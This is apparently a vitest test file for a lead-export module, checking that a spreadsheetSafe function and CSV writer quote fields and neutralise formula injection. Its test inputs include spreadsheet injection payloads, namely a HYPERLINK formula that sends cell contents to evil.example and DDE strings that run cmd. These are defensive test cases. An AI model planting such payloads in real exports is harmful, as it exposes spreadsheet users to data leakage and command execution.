import { describe, expect, it } from 'vitest';
import { LEAD_COLUMNS } from '../repositories/leads.js';
import { parseCsv, parseCsvRecords } from '../test/parse-csv.js';
import { leadsCsv, spreadsheetSafe } from './csv.js';

describe('spreadsheetSafe', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    ],
    ['+91 98765 43210', `'+91 98765 43210`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\uFF1D1+1', `'\uFF1D1+1`],
    ['=', `'=`],
  ])('turns %j, which a spreadsheet would run, into text', (value, safe) => {
    expect(spreadsheetSafe(value)).toBe(safe);
  });

  it.each([
    'Ravi Patel',
    'ravi@example.in',
    '9876543210',
    '',
    ' =1+1',
    "'=1+1",
    'a=b',
    'Sales - North',
    '2026-01-15T10:00:00+05:30',
  ])('leaves %j as it is', (value) => {
    expect(spreadsheetSafe(value)).toBe(value);
  });
});

describe('leadsCsv', () => {
  const lead = (fields: Record<string, string | number | null>) => ({
    id: 1,
    received_at: '2026-01-15T10:00:00+05:30',
    name: 'Ravi Patel',
    email: 'ravi@example.in',
    mobile: '9876543210',
    business_type: null,
    message: 'Hello',
    language: 'English',
    consent_version: '2026-11',
    consented_at: '2026-01-15T10:00:00+05:30',
    ...fields,
  });

  it('writes the header of the kind even when there are no leads', () => {
    expect(leadsCsv('partner', [])).toBe(`${LEAD_COLUMNS.partner.join(',')}\r\n`);
    expect(leadsCsv('newsletter', [])).toBe(
      'id,received_at,email,language,consent_version,consented_at\r\n',
    );
  });

  it('writes one CRLF-terminated record per lead, in the header order, empty for no value', () => {
    const csv = leadsCsv('partner', [
      lead({ id: 7 }),
      lead({ id: 8, business_type: 'Franchise partner' }),
    ]);
    expect(csv.split('\r\n')).toEqual([
      'id,received_at,name,email,mobile,business_type,message,language,consent_version,consented_at',
      `7,2026-01-15T10:00:00+05:30,Ravi Patel,ravi@example.in,'+91 98765 43210,,Hello,English,2026-11,2026-01-15T10:00:00+05:30`,
      `8,2026-01-15T10:00:00+05:30,Ravi Patel,ravi@example.in,'+91 98765 43210,Franchise partner,Hello,English,2026-11,2026-01-15T10:00:00+05:30`,
      '',
    ]);
  });

  it('shows phone numbers as the inbox and the mail do: +91 with a mobile, a landline with its STD code', () => {
    const [, partner] = parseCsv(leadsCsv('partner', [lead({ mobile: '9825012345' })]));
    expect(partner![4]).toBe(`'+91 98250 12345`);
    const contact = (phone: string) => ({
      id: 2,
      received_at: '2026-01-15T10:00:00+05:30',
      name: 'Anita Rao',
      email: 'anita@example.in',
      phone,
      subject: 'Rates',
      message: 'Hi',
    });
    const { records } = parseCsvRecords(
      leadsCsv('contact', [
        contact('098250 12345'),
        contact('079 2658 1234'),
        contact('1800 270 1996'),
      ]),
    );
    expect(records.map((record) => record['phone'])).toEqual([
      `'+91 98250 12345`,
      `'+91 79 2658 1234`,
      '1800 270 1996',
    ]);
  });

  it('quotes commas, quotes and line breaks so that every field reads back as it was', () => {
    const message = 'We run 40 trucks, "fast" ones,\nout of Surat;\r\nsecond line, too.';
    const csv = leadsCsv('partner', [lead({ name: 'Patel, Ravi "R"', message })]);
    expect(csv).toContain('"Patel, Ravi ""R"""');
    const { records } = parseCsvRecords(csv);
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({ name: 'Patel, Ravi "R"', message });
  });

  it('quotes a line break with no comma or quote near it, so no line of a message starts a row', () => {
    for (const message of [
      "Please call me back\n=cmd|' /C calc'!A0\n=2+5",
      'one\rtwo',
      'one\r\n@SUM(1)',
    ]) {
      const { records } = parseCsvRecords(leadsCsv('partner', [lead({ message })]));
      expect(records, JSON.stringify(message)).toHaveLength(1);
      expect(records[0]!['message']).toBe(message);
    }
  });

  it('neutralises formulas in every text field and leaves numbers alone', () => {
    const csv = leadsCsv('partner', [
      lead({
        name: '=HYPERLINK("http://evil.example","Click me")',
        email: '@x',
        message: '-1+2,\n=cmd',
        business_type: '+1',
      }),
    ]);
    const [, record] = parseCsv(csv);
    expect(record).toEqual([
      '1',
      '2026-01-15T10:00:00+05:30',
      `'=HYPERLINK("http://evil.example","Click me")`,
      `'@x`,
      `'+91 98765 43210`,
      `'+1`,
      `'-1+2,\n=cmd`,
      'English',
      '2026-11',
      '2026-01-15T10:00:00+05:30',
    ]);
  });
});
